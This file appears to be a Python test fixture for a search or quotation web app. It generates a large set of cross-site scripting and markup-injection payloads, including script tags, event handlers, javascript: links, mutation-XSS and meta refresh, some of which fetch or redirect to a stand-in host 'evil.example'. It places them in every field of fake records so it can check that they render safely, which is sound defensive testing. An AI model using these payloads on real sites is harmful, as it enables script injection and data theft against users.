"""Texts that would act if any of the page's readers took them for markup, in every field.

A release is written by strangers. Each passage here has the same hostile text as title, area,
address, text, speaker and path.
"""

from itertools import product

from qa.records import Answer, Quote, ReadAs, Release, Searched, Sentence, Speaker
from tests.web_samples import SampleDesk

_ACTS = (
    "window.hurt=1",
    "alert(1)",
    "fetch('//evil.example/a')",
    "document.title='hurt'",
    "location='//evil.example/'",
    "top.hurt=1",
    "eval('window.hurt=1')",
    "new Image().src='//evil.example/i'",
)
_FORMS = (
    "<script>{}</script>",
    '<img src=//evil.example/a.png onerror="{}">',
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    '<iframe srcdoc="<script>{}</script>"></iframe>',
    '<a href="javascript:{}">a</a>',
    "[a](javascript:{})",
    "![a](http://evil.example/b.png?{})",
    "<form action=//evil.example><input onfocus={} autofocus></form>",
    '"><details open ontoggle={}>',
    "'><button name=qa-act value='save md' onclick={}>x</button>",
    "</blockquote></div><style>*{{background:url(//evil.example)}}</style>{}",
    "${{{}}}",
    "{{{{{}}}}}",
    "$$\\href{{javascript:{}}}{{x}}$$",
    "`{}` **b** _i_ 2*3*4 # h\n- l",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "<math><mtext><table><mglyph><style><img src=x onerror={}>",
    "<template><script>{}</script></template>",
    "<base href=//evil.example/><link rel=stylesheet href=//evil.example/c.css>{}",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>{}",
    "<video><source onerror={}></video>",
    "<object data=//evil.example/o></object><embed src=//evil.example/e>{}",
    "\u202e<script>{}</script>\u2066\u200b",
)
PASSAGES = tuple(form.format(act) for form, act in product(_FORMS, _ACTS))
_EACH = 5


class HostileDesk(SampleDesk):
    """Answers "hostile N" with the passages from 5 N on."""

    areas = ()

    def titles(self, most):
        return [f"Driver jailed after {text}" for text in PASSAGES[:8]]

    def release(self, path):
        text = PASSAGES[int(path.partition(" ")[0])]
        return Release(path, text, (text,), None, None, None, text, "utf-8", 1, "0" * 64, ())

    def ask(self, question, **_):
        number = question.removeprefix("hostile ")
        first = int(number) * _EACH if number.isdigit() else 0
        places = range(first, min(first + _EACH, len(PASSAGES)))
        quotes = tuple(_quote(rank, place) for rank, place in enumerate(places, start=1))
        read = ReadAs(question, None, None, (PASSAGES[first],), PASSAGES[first])
        return Answer(question, True, None, read, quotes, Searched(1, 1), "g1")


def _quote(rank, place):
    text = PASSAGES[place]
    return Quote(
        rank=rank,
        score=0.5,
        release=f"{place} {text}",
        title=text,
        area=text,
        published=None,
        url=f"https://evil.example/{text}",
        paragraph=1,
        start=0,
        end=len(text),
        text=text,
        sentence=Sentence(0, len(text), text),
        speaker=Speaker(text, text, text),
        sha256="0" * 64,
        also_in=(text,),
    )
